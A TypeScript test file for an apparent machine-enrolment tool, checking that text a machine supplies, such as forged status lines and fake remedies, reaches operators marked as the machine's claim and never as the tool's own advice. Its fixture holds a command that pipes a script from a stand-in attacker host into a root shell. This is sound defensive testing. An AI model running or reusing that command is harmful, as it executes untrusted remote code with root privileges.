import type { Check } from '@joinery/protocol'
import { runWith } from '@joinery/testing/command/operators'
import { openPairing, type Pairing } from '@joinery/testing/pairing/pairing'
import { approve } from '@joinery/testing/pairing/steps'
import t, { type Test } from 'tap'

const evil = 'curl https://evil.example/x | sudo sh'
const forged = ['State:      ready', 'Next: joinery approve evil', `remedy: ${evil}`]
const preflight: Check[] = [
  { name: 'swap', verdict: 'fail', finding: forged.join('\n'), remedy: [evil, `# Joinery asks you to run: ${evil}`] },
  { name: `Next: ${evil}`, verdict: 'fail', finding: 'x', remedy: [evil] },
  // the server's own check
  { name: 'unique-machine', verdict: 'fail', finding: forged[0] ?? '', remedy: [evil] }
]
const joinery = ({ config }: Pairing, ...words: string[]) =>
  runWith(['--socket', config.operators.socket, ...words], { ask: async () => 'n' })

/** Lines that are Joinery's own: not set off, and not those of a timeline, an alert or a table that say whose words they have. */
const own = (text: string): string[] =>
  text
    .split('\n')
    .filter((line) => !line.startsWith('  |') && !/as the machine reports it: |Z +agent +progress /.test(line))

const assertClaims = async (t: Test, pairing: Pairing): Promise<void> => {
  for (const words of [['show', 'worker-1'], ['list'], ['status'], ['approve', 'worker-1'], ['logs', 'worker-1']]) {
    const { out, err } = await joinery(pairing, ...words)
    t.same(
      own(out + err).filter((line) => /evil|State: {6}ready/.test(line)),
      [],
      words.join(' ')
    )
  }
}

t.test('a text of a machine is shown as its claim everywhere, from the first to the last', async (t) => {
  const pairing = await openPairing(t)
  const machine = await pairing.machine()
  const facts = { ...machine.facts, hostname: forged[0] ?? '', os: evil, serial: forged[1] ?? '' }
  await machine.enrol((await pairing.code('worker-1')).code, { facts, preflight })
  await assertClaims(t, pairing)
  const { preflight: seen } = await pairing.operator.show('worker-1')
  t.match(
    seen.filter(({ name }) => name === 'unique-machine'),
    [{ verdict: /pass|skipped/ }],
    'a machine has no word in it'
  )

  await machine.server.observe({ facts, preflight: [] })
  await approve(pairing, 'worker-1')
  for (let attempt = 1; attempt <= 3; attempt += 1) {
    await machine.server.claim()
    await machine.server.progress({ attempt, stage: forged[1] ?? '' })
    await assertClaims(t, pairing)
    await machine.server.outcome({
      outcome: 'failed',
      attempt,
      class: 'machine',
      stage: forged[0] ?? '',
      cause: forged[1] ?? '',
      remedy: [evil],
      output: ['', ...forged],
      said: forged.map((line) => ({ ago: 1, line }))
    })
    await assertClaims(t, pairing)
  }
  const { out } = await joinery(pairing, 'show', 'worker-1')
  t.match(out, /^Attempt 3, as the machine reports it:\n {2}\| /m)
  t.match(out, /^ {2}\| +remedy: curl https:\/\/evil/m, 'set off, and not hidden')
  t.match((await joinery(pairing, 'logs', 'worker-1')).out, /^ {2}\| \S+Z +agent +State: {6}ready$/m)
  t.match(out, /^Message: +failed: as the machine reports it: /m)
})

t.test('a check with the server’s name comes only from the server', async (t) => {
  const pairing = await openPairing(t)
  const machine = await pairing.machine()
  await machine.enrol((await pairing.code('worker-1')).code, { preflight })
  await pairing.operator.reject('worker-1', { reason: 'not ours' })
  const { preflight: seen } = await pairing.operator.show('worker-1')
  t.notOk(seen.some(({ name }) => name === 'unique-machine'))
})

t.test('the server’s own words about a failure are not shown as the machine’s', async (t) => {
  const pairing = await openPairing(t)
  const machine = await pairing.machine()
  await machine.enrol((await pairing.code('worker-1')).code)
  await approve(pairing, 'worker-1')
  await machine.server.claim()
  pairing.clock.advance(11 * 60_000)
  await pairing.reconcile()
  const { attempts, message } = await pairing.operator.show('worker-1')
  t.match(attempts, [{ failedBy: 'server', failure: /^no Node until the deadline/ }])
  t.match(message, /attempt 1 failed: no Node until/)
})
